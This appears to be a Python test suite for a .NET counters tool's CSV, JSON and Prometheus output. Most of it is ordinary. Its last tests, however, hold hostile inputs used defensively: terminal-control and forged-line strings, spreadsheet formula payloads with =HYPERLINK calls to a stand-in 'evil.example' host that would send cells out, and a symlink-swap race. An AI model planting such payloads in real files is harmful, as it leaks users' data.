#!/usr/bin/env python3
# SPDX-License-Identifier: LGPL-2.1-or-later
"""dsctl counters against the real runtime, as dotnet-counters shows them: tags, Meters before EventCounters,
rates with their interval, its JSON, and the Prometheus text format (promtool, the file replaced whole)."""
import collections
import csv
import datetime
import io
import json
import os
import re
import shutil
import statistics
import subprocess
import signal
import threading

import nettrace_writer
from harness import (DSCTL, HANG_BOUND, MALLORY, RUNTIME_BOUND, SVC, Agent, FakeRuntime, Process, Target, as_user,
                     dsctl, make_dir, place_in_unit, run_tests, test, uid_of, wait_for)

TAGGED = "Dsagent.Tagged"
PROVIDER = "Dsagent-TestTarget"      # the app's EventSource, with the polling counter "test-counter"
JSON_KEYS = ["timestamp", "provider", "name", "tags", "counterType", "meterTags", "instrumentTags", "value"]
ROUND_TRIP = r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{7}[+-]\d\d:\d\d"   # DateTime.ToString("O")
INVARIANT = r"\d\d/\d\d/\d{4} \d\d:\d\d:\d\d"                          # DateTime.ToString(), invariant culture


def tagged_target():
    return Target(SVC, args=("--tagged-meter", "--meter-value", "42.5"))


def counters(agent, target, *args, duration="3"):
    r = dsctl(agent, SVC, "counters", str(target.pid), "--duration", duration, *args, timeout=RUNTIME_BOUND)
    assert r.returncode == 0, r
    return r


def csv_rows(text):
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["Timestamp", "Provider", "Counter Name", "Counter Type", "Mean/Increment"], rows[0]
    for row in rows[1:]:
        assert re.fullmatch(INVARIANT, row[0]), row
    return rows[1:]


@test
def tag_values_are_rows_of_their_own_as_dotnet_counters_writes_them():
    target = tagged_target()
    agent = Agent()
    rows = csv_rows(counters(agent, target, "--counters", f"System.Runtime,{TAGGED}", duration="5").stdout)
    values = {(r[1], r[2], r[3]): float(r[4]) for r in rows}

    # the Meter's tag, the instrument's, then the value's, in brackets with ';' between them
    gauge = "dsagent.test.temperature (Cel)[team=dsagent;kind=test;sensor={}]"
    assert values[(TAGGED, gauge.format("a"), "Metric")] == 21.5, values
    assert values[(TAGGED, gauge.format("b"), "Metric")] == 23.5, values
    requests = "dsagent.test.requests ({{request}} / 1 sec)[team=dsagent;outcome={}]"
    assert (TAGGED, requests.format("ok"), "Rate") in values and (TAGGED, requests.format("failed"), "Rate") in values
    # a histogram: a row per percentile, the percentile a tag
    for route, ms in (("/a", 10), ("/b", 20)):
        for p in (50, 95, 99):
            assert values[(TAGGED, f"dsagent.test.latency (ms)[team=dsagent;route={route};Percentile={p}]",
                           "Metric")] == ms, values
    assert values[(TAGGED, "dsagent.test.queue[team=dsagent]", "Metric")] == 7, values   # the Meter's tag alone

    # the runtime's own tags: five generations, each its row, never five identical rows
    generations = {r[2] for r in rows if r[2].startswith("dotnet.gc.last_collection.heap.size (By)")}
    assert generations == {f"dotnet.gc.last_collection.heap.size (By)[gc.heap.generation={g}]"
                           for g in ("gen0", "gen1", "gen2", "loh", "poh")}, generations
    # tags lost would put two series under one name: twice in every interval. Timestamps have 1 s resolution, so
    # a late interval and the next can share one (seen under ASan), some of their rows in one second and some in
    # the next; so a name may come once in every second of the run, plus twice where intervals met, no more
    stamps = {r[0] for r in rows}
    seen = collections.Counter((r[1], r[2]) for r in rows)
    # enough intervals that a doubled series stands out: 3 of the 4 or 5 seconds 5 s of 1 s intervals stamp, where
    # a loaded machine that made a whole interval late would still leave 3
    assert len(stamps) >= 3, stamps
    doubled = {name: n for name, n in seen.items() if n > len(stamps) + 2}
    assert not doubled, f"rows that came twice an interval, in {len(stamps)} seconds: {doubled}"


@test
def the_meter_comes_before_the_eventcounters_of_its_name():
    target = tagged_target()
    agent = Agent()
    # .NET 9 on: System.Runtime is an EventSource and a Meter; dotnet-counters shows the Meter only
    rows = csv_rows(counters(agent, target, "--counters", f"System.Runtime,{PROVIDER}").stdout)
    runtime = {r[2] for r in rows if r[1] == "System.Runtime"}
    assert runtime and all(name.startswith("dotnet.") for name in runtime), runtime
    assert "dotnet.process.memory.working_set (By)" in runtime, runtime
    # an EventSource without a Meter of its name keeps its EventCounters
    assert {r[2] for r in rows if r[1] == PROVIDER} == {"Test counter"}, rows

    # a filter that keeps none of the Meter's instruments leaves the EventCounter, as in dotnet-counters
    rows = csv_rows(counters(agent, target, "--counters", "System.Runtime[cpu-usage]").stdout)
    assert rows and {(r[1], r[2]) for r in rows} == {("System.Runtime", "CPU Usage (%)")}, rows


@test
def rate_names_carry_their_interval():
    target = tagged_target()
    agent = Agent()
    rows = csv_rows(counters(agent, target, "--counters", f"System.Runtime,{TAGGED}", "--interval", "2",
                             duration="5").stdout)
    rates = {r[2] for r in rows if r[3] == "Rate"}
    assert "dotnet.gc.heap.total_allocated (By / 2 sec)" in rates, rates
    assert "dsagent.test.requests ({request} / 2 sec)[team=dsagent;outcome=ok]" in rates, rates
    assert all(re.search(r" / 2 sec\)", name) for name in rates), rates
    ok = [float(r[4]) for r in rows if r[2] == "dsagent.test.requests ({request} / 2 sec)[team=dsagent;outcome=ok]"]
    # +5 every 100 ms: about 100 in two seconds (50 would be a one-second rate); the median, because on a loaded
    # machine one late collection makes one interval longer and the next shorter. The app keeps its pace by the
    # clock however late a loaded machine runs it (TaggedMeter.cs), so the bounds measure the interval alone
    assert ok and 60 <= statistics.median(ok) <= 140, ok

    # EventCounters' rates: the increment over the interval they were asked for
    rows = csv_rows(counters(agent, target, "--counters", "System.Runtime[alloc-rate]", "--interval", "2",
                             duration="5").stdout)
    assert {(r[2], r[3]) for r in rows} == {("Allocation Rate (B / 2 sec)", "Rate")}, rows


@test
def a_second_session_at_once_is_told_and_shows_each_value_once():
    target = tagged_target()
    agent = Agent()
    wanted = f"System.Runtime,{TAGGED}"
    # the first runs until it is stopped, after the second: a duration would have to outlast the second's start
    # and 3 s, which a loaded machine could take longer over
    first = Process(as_user(SVC, [DSCTL, "--socket", agent.socket, "counters", str(target.pid),
                                  "--counters", wanted, "-q"]))
    # the first one's metrics session runs once it has shown a Meter's value (a fixed wait lost the race on a
    # loaded CI machine, and the second session then got the Meters)
    shown = [first.read_line("Timestamp,")]
    while f",{TAGGED}," not in shown[-1]:
        shown.append(first.read_line(""))
    # the runtime keeps one metrics session: the second gets EventCounters only, and the first one's Meter
    # values, which come through its stream too, are not taken for its own
    r = counters(agent, target, "--counters", wanted)
    assert "another tool's metrics session runs in the process" in r.stderr, r.stderr
    rows = csv_rows(r.stdout)
    assert rows and all(row[1] == "System.Runtime" and not row[2].startswith("dotnet.") for row in rows), rows
    assert "CPU Usage (%)" in {row[2] for row in rows}, rows
    os.killpg(first.proc.pid, signal.SIGINT)  # Ctrl-C
    assert first.proc.wait(timeout=HANG_BOUND) == 0
    rows = csv_rows("\n".join(shown) + "\n" + first.proc.stdout.read())
    assert not [row for row in rows if row[1] == "System.Runtime" and not row[2].startswith("dotnet.")], rows
    # each interval's value once. Timestamps have whole seconds, so on a loaded machine a late collection and
    # the timely next one may share a second; then a neighbouring second lacks that counter. A value taken
    # twice (the other session's copy) has no such gap: every second of the overlap would hold two.
    def second(stamp):
        return datetime.datetime.strptime(stamp, "%m/%d/%Y %H:%M:%S").timestamp()
    seen = collections.Counter((second(row[0]), row[1], row[2]) for row in rows)
    twice = [(t, p, n) for (t, p, n), count in seen.items()
             if count > 1 and (t - 1, p, n) in seen and (t + 1, p, n) in seen]
    assert not twice, f"a row came twice in one interval: {twice}"


def check_json_shape(document):
    assert list(document) == ["TargetProcess", "StartTime", "Events"], list(document)
    assert re.fullmatch(ROUND_TRIP, document["StartTime"]), document["StartTime"]
    for event in document["Events"]:
        assert list(event) == JSON_KEYS, event
        assert re.fullmatch(ROUND_TRIP, event["timestamp"]), event
        assert event["counterType"] in ("Metric", "Rate"), event
        assert event["timestamp"] >= document["StartTime"][:19], (event, document["StartTime"])


@test
def json_has_dotnet_counters_shape_with_target_and_start_time():
    target = tagged_target()
    agent = Agent()
    r = counters(agent, target, "--counters", f"System.Runtime,{TAGGED}", "--format", "json")
    document = json.loads(r.stdout)
    check_json_shape(document)
    assert document["TargetProcess"] == "DsTestTarget", document["TargetProcess"]
    events = document["Events"]
    sensors = {e["tags"]: e for e in events if e["name"] == "dsagent.test.temperature (Cel)"}
    assert set(sensors) == {"sensor=a", "sensor=b"}, sensors
    a = sensors["sensor=a"]
    assert (a["provider"], a["meterTags"], a["instrumentTags"], a["counterType"], a["value"]) == \
        (TAGGED, "team=dsagent", "kind=test", "Metric", 21.5), a
    percentiles = {e["tags"] for e in events if e["name"] == "dsagent.test.latency (ms)"}
    assert "route=/a,Percentile=95" in percentiles, percentiles
    assert any(e["name"] == "dotnet.gc.heap.total_allocated (By / 1 sec)" and e["counterType"] == "Rate"
               for e in events)

    # a unit's process: the agent names it, and dsctl reads its name as .NET's Process.ProcessName does
    place_in_unit(target.pid, "dst-counters.service")
    r = dsctl(agent, SVC, "counters", "dst-counters.service", "--duration", "2", "--json", timeout=RUNTIME_BOUND)
    assert r.returncode == 0, r
    document = json.loads(r.stdout)
    check_json_shape(document)
    assert document["TargetProcess"] == "DsTestTarget" and document["Events"], document


def promtool(text):
    assert shutil.which("promtool"), "promtool is missing: scripts/install-deps.sh installs Debian's prometheus"
    return subprocess.run(["promtool", "check", "metrics"], input=text, stdout=subprocess.PIPE,
                          stderr=subprocess.STDOUT, text=True)


@test
def prometheus_output_passes_promtool_with_opentelemetry_names():
    target = tagged_target()
    agent = Agent()
    out = os.path.join(make_dir(SVC, 0o755), "dotnet.prom")
    counters(agent, target, "--counters", f"System.Runtime,{TAGGED}", "--format", "prometheus", "-o", out)
    text = open(out).read()
    checked = promtool(text)
    assert checked.returncode == 0, checked.stdout + text
    st = os.stat(out)
    assert st.st_uid == uid_of(SVC) and st.st_mode & 0o777 == 0o644, st

    scope = 'otel_scope_name="Dsagent.Tagged",otel_scope_version="2.0"'
    for line in (
            "# TYPE dsagent_test_temperature_celsius gauge",
            f'dsagent_test_temperature_celsius{{{scope},kind="test",sensor="a",team="dsagent"}} 21.5',
            f'dsagent_test_temperature_celsius{{{scope},kind="test",sensor="b",team="dsagent"}} 23.5',
            "# HELP dsagent_test_temperature_celsius the two sensors' temperatures",
            "# TYPE dsagent_test_requests_total counter",
            # milliseconds become Prometheus's base unit, seconds
            "# TYPE dsagent_test_latency_seconds summary",
            f'dsagent_test_latency_seconds{{{scope},route="/a",team="dsagent",quantile="0.5"}} 0.01',
            f'dsagent_test_latency_seconds{{{scope},route="/b",team="dsagent",quantile="0.99"}} 0.02',
            "# TYPE dsagent_test_queue gauge",
            f'dsagent_test_queue{{{scope},team="dsagent"}} 7',
            "# TYPE dotnet_process_memory_working_set_bytes gauge",
            "# TYPE dotnet_gc_collections_total counter",
            # a gauge named ..._count, as OpenTelemetry names it, declared untyped for Prometheus's rules
            "# TYPE dotnet_assembly_count untyped"):
        assert line in text.splitlines(), f"{line!r} not in\n{text}"
    assert re.search(r'^dotnet_gc_last_collection_heap_size_bytes\{otel_scope_name="System.Runtime",'
                     r'gc_heap_generation="gen0"\} \d', text, re.M), text
    requests = re.search(rf'^dsagent_test_requests_total{{{scope},outcome="ok",team="dsagent"}} (\S+)$', text, re.M)
    # the running total, not the last increment (5): the app adds 50 a second by the clock (TaggedMeter.cs), and
    # has run 3 s of session and its own start before it
    assert requests and float(requests.group(1)) >= 50, text
    counts = re.search(rf'^dsagent_test_latency_seconds_count{{{scope},route="/a",team="dsagent"}} (\S+)$', text,
                       re.M)
    # 100 a second by the clock (TaggedMeter.cs), over 3 s of session at least
    assert counts and float(counts.group(1)) >= 100, text

    # on standard output: one whole snapshot after another, an empty line between them (5 s of 1 s intervals,
    # where 2 are all the check needs: a loaded machine may make some late, not three of them)
    r = counters(agent, target, "--counters", f"System.Runtime,{TAGGED}", "--format", "prometheus", duration="5")
    snapshots = r.stdout.split("\n\n")
    assert len(snapshots) >= 2, r.stdout
    for snapshot in snapshots:
        checked = promtool(snapshot.rstrip("\n") + "\n")
        assert checked.returncode == 0, checked.stdout + snapshot


@test
def prometheus_file_is_replaced_whole_each_interval():
    target = tagged_target()
    agent = Agent()
    mine = make_dir(SVC, 0o755)
    out = os.path.join(mine, "dotnet.prom")
    # a file of an earlier run is replaced, not refused
    with open(out, "w") as f:
        f.write("# an earlier run\n")
    os.chown(out, uid_of(SVC), -1)

    seen, inodes, torn = [], set(), []
    stop = threading.Event()

    def read():
        # a textfile collector's view: whatever it opens must be a whole snapshot
        while not stop.is_set():
            try:
                with open(out) as f:
                    text = f.read()
                    inodes.add(os.fstat(f.fileno()).st_ino)
            except FileNotFoundError:
                torn.append("the file was missing")
                continue
            if text == "# an earlier run\n":
                continue
            if not text.endswith("\n") or "# TYPE dsagent_test_temperature_celsius gauge" not in text or \
                    not re.search(r'^dsagent_test_temperature_celsius\{.*sensor="b".*\} 23\.5$', text, re.M):
                torn.append(text)
            seen.append(text)

    reader = threading.Thread(target=read)
    reader.start()
    try:
        r = counters(agent, target, "--counters", f"System.Runtime,{TAGGED}", "--format", "prometheus", "-o", out,
                     duration="5")
    finally:
        stop.set()
        reader.join()
    assert not torn, torn[:2]
    # 3 of the 4 or 5 snapshots 5 s of 1 s intervals write: a loaded machine that made a whole interval late would
    # still leave 3; each stays a second, while the reader reads without pause
    assert len(set(seen)) >= 3, f"{len(set(seen))} snapshots seen in 5 s"
    assert len(inodes) >= 4, inodes      # the earlier file, then a new one each time
    assert sorted(os.listdir(mine)) == ["dotnet.prom"], os.listdir(mine)   # no temporary file left
    assert promtool(open(out).read()).returncode == 0
    assert r.stdout == "", r.stdout


@test
def prometheus_file_that_cannot_be_written_costs_no_session():
    target = tagged_target()
    agent = Agent()
    closed = make_dir(None, 0o755)    # root's: the requester cannot make a file in it
    r = dsctl(agent, SVC, "counters", str(target.pid), "--format", "prometheus", "-o",
              os.path.join(closed, "x.prom"))
    assert r.returncode == 1 and "Permission denied" in r.stderr and "nothing was asked" in r.stderr, r
    assert not agent.records(), "the agent was asked"


@test
def prometheus_file_stays_in_the_directory_it_began_in():
    """A directory on -o's path swapped for a symlink between intervals, by the user who owns the directory
    above it, sends none of root's writes into the directory the symlink names."""
    target = tagged_target()
    agent = Agent()
    mallorys = make_dir(MALLORY, 0o755)
    metrics = os.path.join(mallorys, "metrics")
    os.mkdir(metrics)
    os.chown(metrics, uid_of(MALLORY), -1)
    roots = make_dir(None, 0o755)              # mallory cannot write here
    with open(os.path.join(roots, "app.prom"), "w") as f:
        f.write("root's own file, not to be replaced\n")
    before = os.stat(os.path.join(roots, "app.prom"))
    out = os.path.join(metrics, "app.prom")

    # root runs the exporter, as a textfile collector's job would
    p = subprocess.Popen([DSCTL, "--socket", agent.socket, "counters", str(target.pid), "--counters",
                          f"System.Runtime,{TAGGED}", "--format", "prometheus", "-o", out, "--duration", "6"],
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    wait_for(lambda: os.path.exists(out), what="the first file")
    first = os.stat(out).st_ino
    # the swap comes right after the first of 6 s of snapshots: 4 or so are still to be written after it, where
    # the check needs one
    subprocess.run(as_user(MALLORY, ["sh", "-c", f"mv {metrics} {mallorys}/old && ln -s {roots} {metrics}"]),
                   check=True)
    assert p.wait(timeout=RUNTIME_BOUND) == 0, p.stderr.read()

    after = os.stat(os.path.join(roots, "app.prom"))
    assert (after.st_ino, after.st_mtime_ns) == (before.st_ino, before.st_mtime_ns), "root's file was replaced"
    assert os.listdir(roots) == ["app.prom"], os.listdir(roots)
    # the file went on being replaced where it began, the directory now named old
    kept = os.path.join(mallorys, "old", "app.prom")
    assert os.stat(kept).st_ino != first and os.stat(kept).st_uid == 0
    assert "# TYPE dsagent_test_temperature_celsius gauge" in open(kept).read()
    assert os.listdir(os.path.join(mallorys, "old")) == ["app.prom"]


def has_no_control_bytes(data):
    """@data (bytes) is UTF-8 with no control character in it but newlines, and no bidirectional override."""
    text = data.decode("utf-8")   # strict: raises on a byte that is not UTF-8
    return not any((ord(c) < 0x20 and c != "\n") or 0x7F <= ord(c) < 0xA0 or c in "\u202e\u2066" for c in text)


def prometheus_unescape(value):
    """A HELP text or label value as Prometheus reads it back: \\\\, \\n and (labels) \\" are its escapes."""
    return re.sub(r'\\(.)', lambda m: "\n" if m.group(1) == "n" else m.group(1), value)


def hostile_counters_runtime(counters_given):
    """svc's fake runtime that answers a session with EventCounters of provider "Hostile": @counters_given, as
    nettrace_writer.event_counters() takes them."""
    path = os.path.join(make_dir(SVC, 0o755), "stream.nettrace")
    with open(path, "wb") as f:
        f.write(nettrace_writer.event_counters("Hostile", counters_given))
    os.chmod(path, 0o644)
    return FakeRuntime(f"trace:{path}")


@test
def counter_names_units_and_tags_a_runtime_chose_come_out_escaped_in_every_format():
    """A runtime names its counters, their units and tags: controls, a forged line and a bidirectional override
    must not reach a file raw, nor break the Prometheus text format (promtool), CSV or JSON."""
    evil = 'hostile\x1b[2J\r\n# HELP forged\u202e\\"q'
    tags = 'k\x1b=v\x1b"\\\n\r,team=a\u202eb\x7f'
    fake = hostile_counters_runtime([(evil, "Shown " + evil, 42.0, tags, "")])
    agent = Agent()
    outs = make_dir(SVC, 0o755)
    for fmt in ("prometheus", "csv", "json"):
        out = os.path.join(outs, f"counters.{fmt}")
        r = dsctl(agent, SVC, "counters", str(fake.pid), "--counters", "Hostile", "--duration", "3", "--format",
                  fmt, "-o", out, timeout=RUNTIME_BOUND)
        assert r.returncode == 0, r
        data = open(out, "rb").read()
        assert b"hostile" in data and has_no_control_bytes(data), (fmt, data)

    prom = open(os.path.join(outs, "counters.prometheus"), encoding="utf-8", newline="").read()
    checked = promtool(prom)
    assert checked.returncode == 0, checked.stdout + prom
    lines = prom.splitlines()
    assert len(lines) == 3, prom
    # one family, its name made of the name's letters; the text read back is what text_escape() shows
    name = "hostile_2J_HELP_forged_q"
    help_text = lines[0][len(f"# HELP {name} "):]
    assert lines[0].startswith(f"# HELP {name} ") and lines[1] == f"# TYPE {name} gauge", prom
    assert prometheus_unescape(help_text) == 'Shown hostile\\x1b[2J\\x0d\n# HELP forged\\u202e\\"q', help_text
    labels = dict(re.findall(r'(\w+)="((?:[^"\\]|\\.)*)"', lines[2]))
    assert lines[2].endswith("} 42") and labels.keys() == {"otel_scope_name", "k_", "team"}, lines[2]
    assert prometheus_unescape(labels["k_"]) == 'v\\x1b"\\\n\\x0d', labels
    assert prometheus_unescape(labels["team"]) == "a\\u202eb\\x7f", labels

    rows = list(csv.reader(io.StringIO(open(os.path.join(outs, "counters.csv"), newline="").read())))
    assert len(rows) >= 2 and all(len(row) == 5 for row in rows), rows
    assert rows[1][1:] == ["Hostile", 'Shown hostile\\x1b[2J\\x0d\\x0a# HELP forged\\u202e\\\\"q'
                           '[k\\x1b=v\\x1b"\\\\\\x0a\\x0d;team=a\\u202eb\\x7f]', "Metric", "42"], rows

    events = json.load(open(os.path.join(outs, "counters.json")))["Events"]
    assert events and all(e["name"] == "Shown " + evil and e["tags"] == tags for e in events), events


@test
def counter_names_a_runtime_chose_are_no_formulas_in_csv():
    """A spreadsheet takes a CSV cell that begins with =, +, - or @ for a formula: a runtime's counter name
    must not become one in the file of whoever opens it (=HYPERLINK() sends the sheet's cells away)."""
    counters_given = [(f'{lead}HYPERLINK("http://evil.example/?"&A1;"x")', f'{lead}HYPERLINK("http://evil/"&A1)',
                       1.0, "", "") for lead in "=+-@"]
    fake = hostile_counters_runtime(counters_given)
    agent = Agent()
    out = os.path.join(make_dir(SVC, 0o755), "counters.csv")
    r = dsctl(agent, SVC, "counters", str(fake.pid), "--counters", "Hostile", "--duration", "3", "--format", "csv",
              "-o", out, timeout=RUNTIME_BOUND)
    assert r.returncode == 0, r
    rows = list(csv.reader(io.StringIO(open(out, newline="").read())))
    names = {row[2] for row in rows[1:]}
    # the counters arrived, each as its name with a quote before it, read back whole
    assert names == {"'" + display for _, display, _, _, _ in counters_given}, rows
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")], rows


if __name__ == "__main__":
    run_tests()
